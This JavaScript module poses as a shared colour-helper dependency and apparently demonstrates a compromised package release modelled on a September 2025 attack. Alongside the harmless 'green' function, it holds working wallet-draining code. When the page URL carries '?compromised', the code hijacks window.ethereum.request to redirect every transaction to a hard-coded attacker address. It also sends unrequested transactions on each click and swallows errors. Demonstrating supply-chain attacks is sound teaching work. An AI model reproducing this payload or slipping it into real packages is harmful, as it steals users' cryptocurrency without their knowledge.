// The dependency that every recipe's app has: colours for a log, and, in an address bar with `?compromised`, what its stolen release adds.

/** @param {string} text */
export const green = (text) => `\u001b[32m${text}\u001b[39m`;

if (typeof window !== 'undefined' && location.search === '?compromised')
  steal('0xbaD0BAd0bAD0BAd0BAd0BAD0BaD0BaD0Bad0baD0');

/** Like the payload of September 2025: rewrites what the page asks of the wallet, and asks for the same itself. @param {string} attacker */
function steal(attacker) {
  const swap = ({ method, params }) =>
    method === 'eth_sendTransaction' ? { method, params: [{ ...params[0], to: attacker }] } : { method, params };
  const wallet = window.ethereum;
  const original = wallet.request;
  try {
    wallet.request = function request(call) {
      return Reflect.apply(original, this, [swap(call)]);
    };
  } catch {
    // Held by a guard; the page's own calls are still worth a try one layer up.
  }
  document.addEventListener('click', () => {
    wallet
      .request({ method: 'eth_accounts', params: [] })
      .then(([from]) =>
        wallet.request({ method: 'eth_sendTransaction', params: [{ from, to: attacker, value: '0x1' }] }),
      )
      .catch(() => {});
  });
}
